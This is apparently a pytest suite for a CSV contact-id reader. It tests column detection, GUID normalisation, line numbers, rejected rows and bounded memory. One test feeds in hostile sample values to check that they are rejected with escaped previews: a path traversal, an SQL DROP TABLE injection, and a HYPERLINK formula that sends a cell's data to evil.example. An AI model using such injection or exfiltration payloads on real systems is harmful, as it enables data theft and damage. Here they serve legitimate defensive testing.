"""The contacts reader: column detection, line numbers, rejections, bounded memory."""

from __future__ import annotations

import csv
import io
import sys
import tracemalloc
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, BinaryIO, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sar_bulk.errors import InputError
from sar_bulk.guids import canonical_guid
from sar_bulk.run.contacts import (
    ContactReader,
    ContactRow,
    RejectedRow,
    open_contacts,
    safe_preview,
)

if TYPE_CHECKING:
    from _typeshed import WriteableBuffer

G = [str(uuid.uuid5(uuid.NAMESPACE_OID, f"contact-{n}")) for n in range(10)]


class GeneratedStream(io.RawIOBase):
    """A stream whose bytes come from a generator, so a test never holds the whole file."""

    def __init__(self, pieces: Iterator[bytes]) -> None:
        self._pieces = pieces
        self._rest = memoryview(b"")

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: WriteableBuffer, /) -> int:
        while not self._rest:
            piece = next(self._pieces, None)
            if piece is None:
                return 0
            self._rest = memoryview(piece)
        target = memoryview(buffer).cast("B")
        size = min(len(target), len(self._rest))
        target[:size] = self._rest[:size]
        self._rest = self._rest[size:]
        return size


def buffered(pieces: Iterator[bytes]) -> BinaryIO:
    return io.BufferedReader(GeneratedStream(pieces))


def in_small_reads(data: bytes, sizes: list[int]) -> BinaryIO:
    """``data`` handed out in reads of the given sizes (cycled): every chunk boundary is hit."""

    def pieces() -> Iterator[bytes]:
        offset, turn = 0, 0
        while offset < len(data):
            size = sizes[turn % len(sizes)]
            yield data[offset : offset + size]
            offset, turn = offset + size, turn + 1

    # Unbuffered on purpose: each read() returns one small piece, as a pipe may.
    return cast(BinaryIO, GeneratedStream(pieces()))


def read(
    data: bytes | BinaryIO, **options: str | int | None
) -> tuple[ContactReader, list[ContactRow | RejectedRow]]:
    stream = io.BytesIO(data) if isinstance(data, bytes) else data
    reader = ContactReader(stream, **options)  # type: ignore[arg-type]
    return reader, list(reader)


def ids(rows: list[ContactRow | RejectedRow]) -> list[tuple[int, str]]:
    return [(row.line, row.contact_id) for row in rows if isinstance(row, ContactRow)]


def rejected(rows: list[ContactRow | RejectedRow]) -> list[tuple[int, str]]:
    return [(row.line, row.reason) for row in rows if isinstance(row, RejectedRow)]


def read_until_error(
    reader: ContactReader,
) -> tuple[list[ContactRow | RejectedRow], InputError]:
    rows: list[ContactRow | RejectedRow] = []
    with pytest.raises(InputError) as caught:
        rows.extend(reader)
    return rows, caught.value


# -- the id column -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["ContactId", "contactid", "CONTACTID", "contact_id", "Contact_ID", "Contact", "CONTACT",
     "id", "ID", "Id", "  ContactId  ", "\ufeffid"],
)  # fmt: skip
def test_each_known_header_name_in_any_case_marks_the_id_column(name: str) -> None:
    data = f"Email,{name},Name\nalice@example.com,{G[0]},Alice\nbob@example.com,{G[1]},Bob\n"
    reader, rows = read(data.encode())
    assert ids(rows) == [(2, G[0]), (3, G[1])]
    shown = name.replace("\ufeff", "").strip()
    assert reader.column_description == f"column '{shown}' (2 of 3)"


def test_contactid_wins_over_a_plain_id_column() -> None:
    reader, rows = read(f"Id,ContactId\n42,{G[0]}\n".encode())
    assert ids(rows) == [(2, G[0])]
    assert reader.column_description == "column 'ContactId' (2 of 2)"


def test_several_columns_with_bom_and_quoted_commas() -> None:
    data = (
        b"\xef\xbb\xbfFull Name,ContactId,City\r\n"
        + f'"Doe, Jane",{G[0]},"Paris, France"\r\n'.encode()
        + f"Roe Rick,{G[1]},Lyon\r\n".encode()
    )
    reader, rows = read(data)
    assert reader.column_description == "column 'ContactId' (2 of 3)"
    assert ids(rows) == [(2, G[0]), (3, G[1])]
    assert reader.rows_read == 2


def test_id_column_is_sniffed_under_unknown_headers() -> None:
    # A Dynamics export names its id column "(Do Not Modify) Contact".
    lines = ["(Do Not Modify) Contact,(Do Not Modify) Row Checksum,Full Name"]
    lines += [f"{G[n]},c2hhMjU2{n},Person {n}" for n in range(5)]
    reader, rows = read("\n".join(lines).encode())
    assert reader.column_description == "column '(Do Not Modify) Contact' (1 of 3)"
    assert ids(rows) == [(n + 2, G[n]) for n in range(5)]


def test_id_column_is_sniffed_without_a_header() -> None:
    data = "".join(f"Person {n},{G[n].upper()},x\n" for n in range(3)).encode()
    reader, rows = read(data)
    assert reader.column_description == "column 2 of 3 (no header)"
    assert ids(rows) == [(1, G[0]), (2, G[1]), (3, G[2])]


def test_sniffing_tolerates_a_few_bad_ids_in_the_column() -> None:
    data = f"owner,ref\nann,{G[0]}\nbob,oops\ncid,{G[1]}\n".encode()
    reader, rows = read(data)
    assert reader.column_description == "column 'ref' (2 of 2)"
    assert ids(rows) == [(2, G[0]), (4, G[1])]
    assert rejected(rows) == [(3, "not a GUID")]


def test_two_guid_columns_are_ambiguous_without_id_column() -> None:
    data = f"owner,ref\n{G[0]},{G[1]}\n{G[2]},{G[3]}\n".encode()
    with pytest.raises(InputError, match=r"several columns hold GUIDs \(1, 2\).*--id-column"):
        read(data)


def test_no_guid_column_asks_for_id_column() -> None:
    data = b"name,mail\nann,a@example.com\nbob,b@example.com\n"
    with pytest.raises(InputError, match=r"no column holds GUIDs.*--id-column"):
        read(data)


def test_explicit_id_column_matches_any_case() -> None:
    data = f"Owner,Kontakt-Nr\n{G[0]},{G[1]}\n".encode()
    reader, rows = read(data, id_column="kontakt-nr")
    assert reader.column_description == "column 'Kontakt-Nr' (2 of 2)"
    assert ids(rows) == [(2, G[1])]


def test_explicit_id_column_that_is_missing_names_the_headers() -> None:
    data = f"Owner,Kontakt\n{G[0]},{G[1]}\n".encode()
    with pytest.raises(InputError) as caught:
        read(data, id_column="ContactId", source_name="in.csv")
    message = str(caught.value)
    assert "in.csv has no column named 'ContactId'" in message
    assert "'Owner', 'Kontakt'" in message


def test_a_single_column_without_header() -> None:
    reader, rows = read(f"{G[0]}\n{G[1]}\n".encode())
    assert reader.column_description == "the only column (no header)"
    assert ids(rows) == [(1, G[0]), (2, G[1])]


def test_a_single_column_with_an_unknown_header() -> None:
    reader, rows = read(f"guids\n{G[0]}\n".encode())
    assert reader.column_description == "column 'guids' (1 of 1)"
    assert ids(rows) == [(2, G[0])]


@pytest.mark.parametrize(
    ("header", "separator"), [("ContactId;Name", ";"), ("ContactId\tName", "\t")]
)
def test_semicolon_or_tab_when_the_first_line_has_no_comma(header: str, separator: str) -> None:
    data = f"{header}\n{G[0]}{separator}Doe, Jane\n".encode()
    reader, rows = read(data)
    assert reader.column_description == "column 'ContactId' (1 of 2)"
    assert ids(rows) == [(2, G[0])]


def test_a_comma_inside_quotes_does_not_decide_the_delimiter() -> None:
    data = f'"Contact, id";ContactId\nx;{G[0]}\n'.encode()
    _, rows = read(data)
    assert ids(rows) == [(2, G[0])]


# -- GUID spellings and line endings ------------------------------------------------------


@pytest.mark.parametrize(
    "spelling",
    [G[0], G[0].upper(), f"{{{G[0]}}}", f"{{{G[0].upper()}}}", f"  {G[0]}  ", f"\t{G[0]}",
     G[0].replace("-", ""), f"({G[0]})", f'"{G[0]}"', f'" {{{G[0].upper()}}} "'],
)  # fmt: skip
def test_guid_spellings_are_normalised(spelling: str) -> None:
    _, rows = read(f"ContactId\n{spelling}\n".encode())
    assert ids(rows) == [(2, G[0])]


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"], ids=["LF", "CRLF", "CR"])
def test_line_endings(newline: str) -> None:
    data = newline.join(["ContactId", G[0], "", G[1], "bad", G[2]]) + newline
    _, rows = read(data.encode())
    assert ids(rows) == [(2, G[0]), (4, G[1]), (6, G[2])]
    assert rejected(rows) == [(5, "not a GUID")]


def test_mixed_line_endings_count_one_line_each() -> None:
    data = f"ContactId\r\n{G[0]}\n{G[1]}\r{G[2]}\r\n\r\n{G[3]}".encode()
    _, rows = read(data)
    assert ids(rows) == [(2, G[0]), (3, G[1]), (4, G[2]), (6, G[3])]


def test_quoted_fields_with_commas_and_line_breaks_keep_line_numbers() -> None:
    data = (
        f'ContactId,Note\n{G[0]},"one, two"\n{G[1]},"three\nfour\r\nfive"\n'
        f'"{G[2]}","six"\n"seven\neight",x\n{G[3]},nine\n'
    ).encode()
    _, rows = read(data)
    assert ids(rows) == [(2, G[0]), (3, G[1]), (6, G[2]), (9, G[3])]
    assert rejected(rows) == [(7, "not a GUID")]


def test_a_line_break_inside_an_id_does_not_join_it_into_a_guid() -> None:
    data = f'ContactId\n"{G[0][:10]}\n{G[0][10:]}"\n'.encode()
    rows, _ = read_until_error(ContactReader(io.BytesIO(data)))
    assert rows == [RejectedRow(2, "not a GUID", safe_preview(f"{G[0][:10]}\n{G[0][10:]}"))]


def test_an_unclosed_quote_rejects_its_line_and_the_rest_is_still_read() -> None:
    data = f'ContactId,Note\n{G[0]},"never closed\n{G[1]},x\n{G[2]},y\n'.encode()
    _, rows = read(data)
    assert rejected(rows) == [(2, "unbalanced quotes")]
    assert ids(rows) == [(3, G[1]), (4, G[2])]


def test_an_unclosed_quote_is_bounded_by_max_line_bytes() -> None:
    lines = [f'ContactId,Note\n{G[0]},"open'] + [f"{G[n % 10]},filler" for n in range(400)]
    _, rows = read("\n".join(lines).encode(), max_line_bytes=256)
    assert rejected(rows) == [(2, "unbalanced quotes")]
    assert ids(rows) == [(n + 3, G[n % 10]) for n in range(400)]


def test_text_after_a_closing_quote_is_malformed() -> None:
    _, rows = read(f'ContactId\n"{G[0]}"x\n{G[1]}\n'.encode())
    assert rejected(rows) == [(2, "malformed CSV quoting")]
    assert ids(rows) == [(3, G[1])]


def test_a_bom_split_over_several_reads_is_still_removed() -> None:
    data = b"\xef\xbb\xbf" + f"ContactId\r\n{G[0]}\r\n".encode()
    reader, rows = read(in_small_reads(data, [1]))
    assert reader.column_description == "column 'ContactId' (1 of 1)"
    assert ids(rows) == [(2, G[0])]


@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"], ids=["LF", "CRLF", "CR"])
def test_reading_goes_on_after_a_long_line_that_ends_where_a_read_ends(newline: bytes) -> None:
    long_line = b"x" * 200 + newline
    data = b"ContactId\n" + long_line + G[0].encode() + newline + G[1].encode()
    # The reads end right after the long line's terminator, and once inside a CRLF.
    sizes = [len(b"ContactId\n"), 100, 100 + len(newline), 1, 1000]
    _, rows = read(in_small_reads(data, sizes), max_line_bytes=64)
    assert rejected(rows) == [(2, "line longer than 64 bytes")]
    assert ids(rows) == [(3, G[0]), (4, G[1])]


# -- rejected rows --------------------------------------------------------------------------


def test_bytes_that_are_not_utf8_reject_that_line_only() -> None:
    data = f"ContactId,Name\n{G[0]},Ann\n".encode() + b"\x00\xff\xfe,M\xfcller\n"
    data += f"{G[1]},Bob\n".encode()
    _, rows = read(data)
    assert ids(rows) == [(2, G[0]), (4, G[1])]
    assert rows[1] == RejectedRow(3, "not UTF-8", "\\x00\\xff\\xfe,M\\xfcller")


@pytest.mark.parametrize("size", [100_000, 1_000_000])
def test_a_huge_line_is_rejected_without_holding_it(size: int) -> None:
    data = b"ContactId\n" + b"x" * size + f"\n{G[0]}\n".encode()
    stream = io.BytesIO(data)
    tracemalloc.start()
    try:
        rows = list(ContactReader(stream))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rows == [
        RejectedRow(2, "line longer than 4096 bytes", "x" * 39 + "…"),
        ContactRow(3, G[0]),
    ]
    # Read in chunks of 16 KiB: the peak stays below the size of the line itself.
    assert peak < 96 * 1024


def test_a_line_of_50_mb_from_a_pipe_is_dropped_in_chunks() -> None:
    def pieces() -> Iterator[bytes]:
        yield b"ContactId\r\n"
        for _ in range(3200):
            yield b"\x00" * 16384
        yield f"\r\n{G[0]}\r\n".encode()

    tracemalloc.start()
    try:
        rows = list(ContactReader(buffered(pieces()), max_line_bytes=1000))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rows == [
        RejectedRow(2, "line longer than 1000 bytes", "\\x00" * 9 + "…"),
        ContactRow(3, G[0]),
    ]
    assert peak < 256 * 1024


@pytest.mark.parametrize(
    ("value", "preview"),
    [
        ("../../x", "../../x"),
        ("'; DROP TABLE contacts;--", "'; DROP TABLE contacts;--"),
        (
            '=HYPERLINK("http://evil.example/?q="&A1,"click")',
            '=HYPERLINK("http://evil.example/?q="&A1…',
        ),
        ("\x1b[31mred\x07", "\\x1b[31mred\\x07"),
        ("abc\u202edef", "abc\\u202edef"),
        ("C:\\temp", "C:\\\\temp"),
        ("a" * 5000, "a" * 39 + "…"),
        (f"{G[0]}x", f"{G[0]}x"),
        (f"{G[0]}\x00", f"{G[0]}\\x00"),
    ],
)
def test_hostile_values_are_rejected_with_safe_previews(value: str, preview: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["ContactId"], [value], [G[1]]])
    _, rows = read(buffer.getvalue().encode(), max_line_bytes=8192)
    assert rows == [RejectedRow(2, "not a GUID", preview), ContactRow(3, G[1])]
    assert len(preview) <= 40


def test_safe_preview_escapes_and_cuts_to_forty_characters() -> None:
    assert safe_preview("plain") == "plain"
    assert safe_preview("a\nb\tc\r") == "a\\nb\\tc\\r"
    assert safe_preview("x" * 40) == "x" * 40
    assert safe_preview("x" * 41) == "x" * 39 + "…"
    # An escape is never cut in half.
    cut = safe_preview("x" * 37 + "\x00yz")
    assert cut == "x" * 37 + "…"
    assert all(len(safe_preview(chr(n) * 60)) <= 40 for n in range(0x20, 0x3000, 97))


def test_empty_id_cells_are_rejected_and_blank_rows_skipped() -> None:
    data = f"Name,ContactId\nAnn,{G[0]}\n\n   \n,\nBob,\n,{G[1]}\nCid,  \n".encode()
    reader, rows = read(data)
    assert ids(rows) == [(2, G[0]), (7, G[1])]
    assert rejected(rows) == [(6, "empty id"), (8, "empty id")]
    assert reader.rows_read == 4


def test_a_short_row_has_an_empty_id() -> None:
    _, rows = read(f"Name,Email,ContactId\nAnn,a@x,{G[0]}\nBob\n".encode())
    assert rejected(rows) == [(3, "empty id")]


# -- files without ids ----------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"\n\r\n  \n"])
def test_an_empty_file_has_no_contact_ids(data: bytes) -> None:
    reader = ContactReader(io.BytesIO(data), source_name="empty.csv")
    rows = iter(reader)  # reads nothing yet: safe on an event loop
    with pytest.raises(InputError, match=r"empty\.csv has no contact ids: the file is empty"):
        next(rows)


@pytest.mark.parametrize("data", [b"ContactId\n", b"ContactId,Name\r\n\r\n", b"whatever"])
def test_a_header_only_file_has_no_contact_ids(data: bytes) -> None:
    reader = ContactReader(io.BytesIO(data))
    with pytest.raises(InputError, match="has no contact ids: it holds only a header line"):
        _ = reader.column_description


def test_when_every_row_is_bad_all_are_reported_then_input_error() -> None:
    data = b"ContactId\nnope\n\xff\n" + b"z" * 5000 + b"\n{not-a-guid}\n"
    rows, error = read_until_error(ContactReader(io.BytesIO(data), source_name="bad.csv"))
    assert rejected(rows) == [
        (2, "not a GUID"),
        (3, "not UTF-8"),
        (4, "line longer than 4096 bytes"),
        (5, "not a GUID"),
    ]
    assert "bad.csv has no contact ids: all 4 rows were rejected" in str(error)


def test_a_file_of_only_unreadable_lines_reports_them_then_fails() -> None:
    rows, _ = read_until_error(ContactReader(io.BytesIO(b"\xff\n\xfe\n")))
    assert rejected(rows) == [(1, "not UTF-8"), (2, "not UTF-8")]


# -- the reader as an object ----------------------------------------------------------------


def test_rows_read_counts_data_rows_as_they_are_read() -> None:
    reader = ContactReader(io.BytesIO(f"ContactId\n{G[0]}\n\nbad\n{G[1]}\n".encode()))
    assert reader.rows_read == 0
    rows = iter(reader)
    next(rows)
    assert reader.rows_read == 1
    assert list(rows) == [RejectedRow(4, "not a GUID", "bad"), ContactRow(5, G[1])]
    assert reader.rows_read == 3


def test_the_reader_is_single_pass() -> None:
    reader, _ = read(f"{G[0]}\n".encode())
    with pytest.raises(RuntimeError, match="once"):
        iter(reader)


def test_a_failed_detection_fails_the_same_way_again() -> None:
    reader = ContactReader(io.BytesIO(f"a,b\n{G[0]},{G[1]}\n{G[2]},{G[3]}\n".encode()))
    with pytest.raises(InputError, match="several columns") as first:
        reader.detect()
    with pytest.raises(InputError) as again:
        next(iter(reader))
    assert again.value is first.value


def test_max_line_bytes_must_leave_room_for_a_guid() -> None:
    with pytest.raises(ValueError, match="at least 64"):
        ContactReader(io.BytesIO(b""), max_line_bytes=10)


def test_open_contacts_opens_a_file_in_binary(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(f"ContactId\r\n{G[0]}\r\n".encode())
    with open_contacts(str(path)) as stream:
        assert ids(list(ContactReader(stream))) == [(2, G[0])]


def test_open_contacts_dash_is_standard_input() -> None:
    assert open_contacts("-") is sys.stdin.buffer


def test_open_contacts_explains_a_missing_file_or_a_folder(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"'nope\.csv' does not exist"):
        open_contacts("nope.csv")
    with pytest.raises(InputError, match="is a folder"):
        open_contacts(str(tmp_path))


# -- size -----------------------------------------------------------------------------------


def million_rows(count: int) -> Iterator[bytes]:
    """``count`` distinct ids, 1,000 rows per piece, built from a fixed tail table."""
    yield b"ContactId\r\n"
    tails = [f"-0000-4000-8000-{n:012x}\r\n".encode() for n in range(1000)]
    for block in range(count // 1000):
        head = f"{block:08x}".encode()
        yield b"".join([head + tail for tail in tails])


@pytest.mark.slow
def test_a_million_rows_stream_with_flat_memory() -> None:
    # tracemalloc slows every allocation ~10x, too slow for a million rows here: count live
    # interpreter blocks every 50,000 rows instead. A reader that kept its rows (or a set of
    # ids) would add at least one block per row.
    reader = ContactReader(buffered(million_rows(1_000_000)))
    samples: list[int] = []
    count = 0
    last: ContactRow | RejectedRow | None = None
    for row in reader:
        count += 1
        last = row
        if count % 50_000 == 0:
            samples.append(sys.getallocatedblocks())
    assert count == 1_000_000
    assert last == ContactRow(1_000_001, "000003e7-0000-4000-8000-0000000003e7")
    assert max(samples) - samples[0] < 20_000


def test_tracemalloc_peak_stays_small_for_50000_rows() -> None:
    stream = buffered(million_rows(50_000))
    tracemalloc.start()
    try:
        count = sum(1 for _ in ContactReader(stream))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count == 50_000
    # Keeping the rows would need > 5 MB; the reader needs a few hundred KB at most.
    assert peak < 1024 * 1024


# -- properties ------------------------------------------------------------------------------


@st.composite
def guid_spellings(draw: st.DrawFn) -> tuple[str, str]:
    value = draw(st.uuids())
    text = str(value) if draw(st.booleans()) else value.hex
    flips = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    text = "".join(c.upper() if flip else c for c, flip in zip(text, flips, strict=True))
    opening, closing = draw(st.sampled_from([("", ""), ("{", "}"), ("(", ")")]))
    pad = st.text(alphabet=" \t", max_size=3)
    return str(value), f"{draw(pad)}{opening}{text}{closing}{draw(pad)}"


@given(st.lists(guid_spellings(), min_size=1, max_size=20))
def test_any_guid_spelling_reads_as_its_canonical_form(spelled: list[tuple[str, str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["ContactId"], *([text] for _, text in spelled)])
    _, rows = read(buffer.getvalue().encode())
    assert ids(rows) == [(n + 2, canonical) for n, (canonical, _) in enumerate(spelled)]


cells = st.one_of(
    guid_spellings().map(lambda pair: pair[1]),
    st.text(st.characters(codec="utf-8"), max_size=30),
    st.sampled_from(["", " ", '"', '""', "\r", "\n", "\r\n", ",", ";", "=1+1", "../../x"]),
)


@settings(max_examples=300)
@given(
    width=st.integers(min_value=1, max_value=3),
    column=st.integers(min_value=0, max_value=2),
    rows=st.lists(st.lists(cells, min_size=3, max_size=3), max_size=25),
    sizes=st.lists(st.integers(min_value=1, max_value=70), min_size=1, max_size=5),
)
def test_rows_written_by_csv_writer_read_back_in_order(
    width: int, column: int, rows: list[list[str]], sizes: list[int]
) -> None:
    column %= width
    header = ["Other"] * width
    header[column] = "ContactId"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    line = 1 + len(buffer.getvalue().encode().splitlines())
    expected_ids: list[tuple[int, str]] = []
    expected_rejects: list[int] = []
    for row in rows:
        start = buffer.tell()
        writer.writerow(row[:width])
        written = buffer.getvalue()[start:].encode()
        value = row[column]
        try:
            expected_ids.append((line, canonical_guid(value)))
        except ValueError:
            if any(cell.strip() for cell in row[:width]):
                expected_rejects.append(line)
        line += len(written.splitlines())
    reader = ContactReader(in_small_reads(buffer.getvalue().encode(), sizes))
    got: list[ContactRow | RejectedRow] = []
    if expected_ids:
        got.extend(reader)
    elif expected_rejects:
        got, _ = read_until_error(reader)
    else:
        with pytest.raises(InputError, match="only a header"):
            next(iter(reader))
    assert ids(got) == expected_ids
    assert [line for line, _ in rejected(got)] == expected_rejects
    assert all(len(row.preview) <= 40 for row in got if isinstance(row, RejectedRow))


@settings(max_examples=300)
@given(
    data=st.binary(max_size=600)
    | st.lists(
        st.sampled_from([b"\r", b"\n", b'"', b",", b";", b"\xef\xbb\xbf", b"\xff", b"x" * 70,
                         G[0].encode(), b"ContactId", b"{" + G[1].upper().encode() + b"}"]),
        max_size=40,
    ).map(b"".join),
    sizes=st.lists(st.integers(min_value=1, max_value=70), min_size=1, max_size=5),
)  # fmt: skip
def test_arbitrary_bytes_never_crash_and_chunking_does_not_matter(
    data: bytes, sizes: list[int]
) -> None:
    def outcome(stream: BinaryIO) -> tuple[str, list[ContactRow | RejectedRow], str]:
        reader = ContactReader(stream, max_line_bytes=64)
        got: list[ContactRow | RejectedRow] = []
        try:
            description = reader.column_description
            got.extend(reader)
        except InputError as error:
            return "", got, str(error)
        return description, got, ""

    whole = outcome(io.BytesIO(data))
    assert outcome(in_small_reads(data, sizes)) == whole
    lines = [row.line for row in whole[1]]
    assert lines == sorted(set(lines))
    assert all(1 <= n <= len(data.splitlines()) for n in lines)
    assert all(len(row.preview) <= 40 for row in whole[1] if isinstance(row, RejectedRow))
